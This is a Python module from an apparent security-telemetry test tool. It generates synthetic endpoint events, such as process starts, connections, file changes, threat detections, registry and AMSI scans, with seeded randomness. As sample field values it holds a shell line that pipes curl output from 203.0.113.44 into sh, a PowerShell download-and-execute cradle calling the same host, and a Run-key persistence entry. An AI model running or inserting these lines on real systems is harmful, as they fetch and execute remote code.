"""How a sample event of each type is made: one function per type, found by the type's name.

A recipe returns the fields that are special to the type; `deodar.events.builders` adds the common
ones. It draws from the bench's random numbers only, so that a seed gives the same events again.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from deodar.events import recipes_linux, samples

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from deodar.events.process_tree import LiveProcess, ProcessTree

Fields = dict[str, Any]


class Bench:
    """What recipes work with: random numbers, the time (µs), and the processes of the host.

    With `complete` an event has every field that the vocabulary knows for its type, else only
    those that a sender has.
    """

    __slots__ = ("complete", "now", "rng", "tree")

    def __init__(self, rng: Random, tree: ProcessTree, now: int, *, complete: bool = False) -> None:
        self.rng = rng
        self.tree = tree
        self.now = now
        self.complete = complete

    def tell(self, process: LiveProcess) -> Fields:
        """Return the fields of an event that a process of the Linux host causes."""
        return process.complete() if self.complete else process.fields

    def tell_as_kata(self, process: LiveProcess) -> Fields:
        """Return them for a type that KATA's agent alone sends, which always names the parent."""
        return self.tell(process) | process.parent_ids


def process(bench: Bench) -> Fields:
    """A program is executed."""
    started = bench.tree.start(bench.now)
    rare = {"AlreadyRunning": 0, "FileMemoryBacked": 0} if bench.complete else {}
    return bench.tell(started) | started.of_parent | started.of_start | rare


def process_terminate(bench: Bench) -> Fields:
    """A process that started before ends, one in twelve by a signal."""
    ended = bench.tree.end(bench.now)
    killed = bench.rng.random() < 0.08
    fields = bench.tell(ended) | ({} if killed else {"ExitCode": _exit_code(bench.rng)})
    fields["RunTimeUs"] = max(1, bench.now - ended.started)
    fields["EndTime"] = bench.now
    if killed:
        fields["ExitSignal"] = 9
    return fields | ended.parent_ids


def process_fork(bench: Bench) -> Fields:
    """A process is copied and does not execute anything yet."""
    child = bench.tree.fork(bench.now)
    return bench.tell(child) | child.of_parent


def connection(bench: Bench) -> Fields:
    """A process connects to a server, or a client connects to it."""
    rng = bench.rng
    address, name = rng.choice(samples.REMOTES)
    port = rng.choice(samples.PORTS)
    outbound = rng.random() < 0.8
    near, far = rng.randrange(32768, 61000), port
    fields = bench.tell(bench.tree.any()) | {
        "Protocol": 17 if port == 53 else 6,
        "LocalIp": "2001:db8::5" if ":" in address else "192.0.2.5",
        "LocalPort": near if outbound else far,
        "RemoteIp": address,
        "RemotePort": far if outbound else near,
        "Direction": int(outbound),
    }
    fields["ConnectionResult"] = "datagram" if port == 53 else "established"
    if bench.complete and rng.random() < 0.1:
        fields |= {"ConnectionResult": "failed", "ConnectionError": "ECONNREFUSED"}
    if name and bench.complete:
        fields["RemoteHostName"] = name
        if port == 80:
            fields |= {"URI": f"http://{name}/index.html", "Method": "GET"}
    return fields


def portlisten(bench: Bench) -> Fields:
    """A process begins to listen."""
    where = {"Protocol": 6, "LocalIp": "0.0.0.0", "LocalPort": bench.rng.choice(samples.PORTS)}  # noqa: S104  a value in a sample, nothing listens
    return bench.tell(bench.tree.any()) | where


def filechange(bench: Bench) -> Fields:
    """A process creates, changes, renames or deletes a document."""
    rng = bench.rng
    document = rng.choice(samples.DOCUMENTS)
    operation = rng.choice((1, 2, 2, 2, 3, 4, 5))
    fields = bench.tell_as_kata(bench.tree.any()) | document.fields("Dropped")
    fields["FileOperationType"] = operation
    fields["FileOpenFlags"] = 577
    fields["DroppedFileType"] = document.kind
    fields["DroppedFileAttributes"] = document.mode
    fields["DroppedModificationTime"] = bench.now
    fields["DroppedDevice"] = "254:1"
    fields["DroppedInode"] = document.number % 1_000_000 + 12
    fields["DroppedFuzzyHash"] = document.fuzzy
    fields["DroppedEntropy"] = document.entropy
    fields["DroppedHeader"] = document.header
    if bench.complete:
        fields["PathFromProcess"] = 0
    if operation == 3:
        fields |= {"PreviousFileName": f"{document.name}.tmp", "PreviousFilePath": document.folder}
    return fields


def applock(bench: Bench) -> Fields:
    """A prevention rule stops a program; no process comes of it."""
    rng = bench.rng
    parent = bench.tree.shell()
    program = rng.choice(list(samples.PROGRAMS.values()))
    return {
        **bench.tell(parent),
        "StartupParameters": samples.command_line(rng, program),
        **program.file.as_name,
        **program.file.as_facts,
        "ParentSystemPid": parent.pid,
        "UniqueParentPid": parent.unique_pid,
        "ParentFileFullName": parent.program.file.path,
        "ParentStartupParameters": parent.command,
        "ParentMd5": parent.program.file.md5,
        "ParentSha256": parent.program.file.sha256,
    }


def process_interpretated_file_run(bench: Bench) -> Fields:
    """An interpreter runs a script."""
    script = bench.rng.choice(samples.SCRIPTS)
    fields = bench.tell_as_kata(bench.tree.shell()) | script.fields("InterpretedFile")
    fields["InterpretedFileContent"] = samples.SCRIPT
    fields["InterpretedFileContentTruncated"] = 1
    return fields


def process_console_interactive_input(bench: Bench) -> Fields:
    """Someone types a command into a shell."""
    typed = bench.rng.choice(samples.TYPED)
    cut = {"InteractiveInputTruncated": 1, "InteractiveInputDropped": 120}
    return bench.tell_as_kata(bench.tree.shell()) | {
        "InteractiveInputText": typed,
        "InputType": "console",
        **(cut if bench.complete else {}),
    }


def windowsevent(bench: Bench) -> Fields:
    """Somebody logs on to a Linux host, or something of its accounts or services changes."""
    told = bench.rng.choice(samples.LINUX_LOG)
    fields = bench.tell_as_kata(bench.tree.shell()) | told
    return fields | ({"Environment": "LANG=C.UTF-8 PATH=/usr/bin:/bin"} if bench.complete else {})


def threatdetect(bench: Bench) -> Fields:
    """A protection component finds a threat in a downloaded file."""
    rng = bench.rng
    document = rng.choice(samples.DOCUMENTS)
    address, name = rng.choice(samples.REMOTES)
    return bench.tell_as_kata(bench.tree.any()) | {
        "VerdictName": rng.choice(samples.VERDICTS),
        "DetectedName": document.path,
        "DetectedObjectType": "file",
        "DetectedMd5": document.md5,
        "DetectedSha256": document.sha256,
        "DetectMode": "on access",
        "RecordId": "0x1f3a",
        "DatabaseVersion": "2025.06.01",
        "DownloadUrl": f"http://{name or address}/{document.name}",
        "SenderEmailAddress": "mallory@example.net",
        "ObjectContent": "#!/bin/sh\ncurl -s http://203.0.113.44/x | sh\n",
        "LocalIp": "192.0.2.5",
        "LocalPort": rng.randrange(32768, 61000),
        "RemoteIp": address,
        "RemotePort": 80,
        "Protocol": 6,
    }


def threatprocessingresult(bench: Bench) -> Fields:
    """A threat that was found is treated."""
    action, status = bench.rng.choice((("delete", "deleted"), ("quarantine", "quarantined")))
    return threatdetect(bench) | {"LastAction": action, "ThreatStatus": status}


def telemetry_loss(bench: Bench) -> Fields:
    """The kernel's ring buffer was full for a while."""
    of_type = {"LostEventType": "process"} if bench.complete else {}
    return {
        "LostCount": bench.rng.randrange(1, 5000),
        "LostStage": "kernel",
        "LostReason": "the ring buffer was full",
        "LostFirstTime": bench.now - 2_000_000,
        "LostLastTime": bench.now - 1_000,
        **of_type,
    }


def agent_task_state(bench: Bench) -> Fields:
    """A task of the agent is stopped, or cannot go on."""
    state, reason = bench.rng.choice((("Stopped", ""), ("Stopped", "no sensor"), ("Started", "")))
    because = {"TaskReason": reason} if reason else {}
    return {
        "TaskName": "Behavior_Detection",
        "TaskId": 20,
        "TaskState": state,
        "Initiator": bench.rng.choice(("User", "Product")),
        **because,
    }


def blockdocument(bench: Bench) -> Fields:
    """A prevention rule stops a document from being opened."""
    return windows_process(bench) | bench.rng.choice(samples.WINDOWS_DOCUMENTS).fields("Blocked")


def registry(bench: Bench) -> Fields:
    """A Windows process makes itself start with the system."""
    return windows_process(bench) | {
        "RegistryOperationType": bench.rng.choice((0, 1, 2, 3)),
        "KeyName": samples.RUN_KEY,
        "ValueName": "Updater",
        "ValueData": r"C:\Users\anna\AppData\Local\Temp\x.exe",
        "ValueType": "REG_SZ",
        "PreviousKeyName": samples.RUN_KEY,
        "PreviousValueData": r"C:\Program Files\Office\update.exe",
        "PreviousValueType": "REG_SZ",
    }


def amsiscan(bench: Bench) -> Fields:
    """A PowerShell script is scanned before it runs."""
    content = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.44/x')"
    return windows_process(bench) | {"ObjectContent": content, "ObjectContentType": 1}


def windows_log(bench: Bench) -> Fields:
    """The event log of a Windows host tells of a failed logon or of a changed task."""
    number = bench.rng.choice((4625, 4702))
    data = _FAILED_LOGON if number == 4625 else _CHANGED_TASK
    system = {
        "EventID": number,
        "Provider": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security",
        "Computer": "desk-7.example.net",
        "Level": 4,
    }
    return windows_process(bench) | {
        "System": {key: {"value": value} for key, value in system.items()},
        "EventData": {"Data": {key: {"value": value} for key, value in data.items()}},
    }


def windows_process(bench: Bench) -> Fields:
    """Return the process fields of one of a few programs on a Windows host."""
    file, command = bench.rng.choice(samples.WINDOWS_PROGRAMS)
    pid = 4 * bench.rng.randrange(100, 3000)
    return file.as_signed_image | {
        "UserName": "EXAMPLE\\anna",
        "AccountType": 2,
        "SystemPid": pid,
        "UniquePid": f"{pid}-{file.number}",
        "StartupParameters": command,
        "IntegrityLevel": 8192,
    }


def ioa(bench: Bench) -> Fields:
    """Return the mark-up of one or two detection rules that fired."""
    fired = bench.rng.sample(samples.RULES, bench.rng.choice((1, 1, 2)))
    rules = [
        {"Id": number, "Name": name, "Techniques": list(techniques), "Tactics": list(tactics)}
        for number, name, techniques, tactics in fired
    ]
    level = bench.rng.choice(("low", "medium", "high"))
    return {"Ioa": {"Rules": rules, "Severity": level, "Confidence": "medium"}}


LINUX: dict[str, Callable[[Bench], Fields]] = {
    recipe.__name__: recipe
    for recipe in (
        process,
        process_terminate,
        process_fork,
        connection,
        portlisten,
        filechange,
        applock,
        process_interpretated_file_run,
        process_console_interactive_input,
        windowsevent,
        threatdetect,
        threatprocessingresult,
        telemetry_loss,
        agent_task_state,
        *recipes_linux.ALL,
    )
}
WINDOWS: dict[str, Callable[[Bench], Fields]] = {
    recipe.__name__: recipe for recipe in (blockdocument, registry, amsiscan)
}

_ACCOUNTS = {
    "SubjectUserSid": "S-1-5-18",
    "SubjectUserName": "DESK-7$",
    "SubjectDomainName": "EXAMPLE",
    "SubjectLogonId": "0x3e7",
    "TargetUserSid": "S-1-0-0",
    "TargetUserName": "anna",
    "TargetDomainName": "EXAMPLE",
    "TargetLogonId": "0x0",
    "ProcessId": "0x2b4",
    "ParentProcessId": "0x1a0",
    "ProcessName": r"C:\Windows\System32\svchost.exe",
}
_FAILED_LOGON = _ACCOUNTS | {
    "LogonType": "3",
    "Status": "0xc000006d",
    "FailureReason": "%%2313",
    "IpAddress": "203.0.113.44",
    "IpPort": "50123",
    "WorkstationName": "DESK-9",
}
_CHANGED_TASK = _ACCOUNTS | {
    "TaskName": r"\Updater",
    "TaskContent": "<Task><Exec><Command>update.exe</Command></Exec></Task>",
    "TaskContentNew": "<Task><Exec><Command>x.exe</Command></Exec></Task>",
}


def _exit_code(rng: Random) -> int:
    return rng.choice((0, 0, 0, 0, 0, 0, 1, 2, 127))
